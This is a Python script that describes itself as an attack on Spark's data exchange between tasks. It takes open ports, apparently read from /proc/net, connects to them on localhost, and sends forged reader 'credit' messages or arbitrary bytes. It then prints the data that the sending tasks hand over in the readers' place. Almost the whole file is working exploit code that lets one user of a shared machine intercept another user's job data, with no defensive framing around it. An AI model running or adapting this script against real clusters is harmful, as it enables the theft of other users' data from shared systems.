"""An attack: takes the places of tasks in Spark's exchange, and prints what it gets in their stead.

Every sending task listens on all addresses, at a port that the system chooses, and sends the frames for reader r to the
first connection that claims to be r. Every user of a machine can read in /proc/net which ports are open; this attack
gets them on its standard input, so that it attacks one job only.

Arguments: the number of readers, the seconds for which to hold places, and what to send instead of a claim.
"""

from __future__ import annotations

import math
import os
import selectors
import socket
import struct
import sys
import time
from typing import Final

_ONE_WAY: Final = 9
_CREDIT: Final = 2


def message(body: bytes) -> bytes:
    """A one-way message of Spark's transport protocol."""
    return struct.pack(">qbi", 13 + len(body), _ONE_WAY, len(body)) + body


def claim(reader: int) -> bytes:
    """Spark's message of a reader that is ready: a credit for messages."""
    return message(struct.pack(">iqiii", _CREDIT, 0, 0, reader, 1))


class Thief:
    """Connections in the places of readers, and the bytes that they have received."""

    def __init__(self, greetings: list[bytes]) -> None:
        """`greetings`: what to send to each port, each on a connection of its own."""
        self._greetings = greetings
        self._ready = selectors.DefaultSelector()
        self.loot: dict[socket.socket, bytearray] = {}

    def steal(self, seconds: float) -> None:
        os.set_blocking(0, False)
        self._ready.register(0, selectors.EVENT_READ)
        until = math.inf
        while time.monotonic() < until:
            for key, _ in self._ready.select(0.1):
                if isinstance(key.fileobj, socket.socket):
                    self._receive(key.fileobj)
                else:
                    self._attack(os.read(0, 1 << 16))
                    until = min(until, time.monotonic() + seconds)

    def _attack(self, ports: bytes) -> None:
        if not ports:
            self._ready.unregister(0)
        for port in ports.split():
            for greeting in self._greetings:
                place = socket.create_connection(("127.0.0.1", int(port)), timeout=3)
                place.sendall(greeting)
                self.loot[place] = bytearray()
                self._ready.register(place, selectors.EVENT_READ)

    def _receive(self, place: socket.socket) -> None:
        try:
            data = place.recv(1 << 16)
        except OSError:
            data = b""
        self.loot[place] += data
        if not data:
            self._ready.unregister(place)


if __name__ == "__main__":
    readers, held_s, garbage = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3:]
    thief = Thief([bytes.fromhex(text) for text in garbage] or [claim(reader) for reader in range(readers)])
    thief.steal(held_s)
    sys.stdout.buffer.write(b"\n".join(map(bytes, thief.loot.values())))
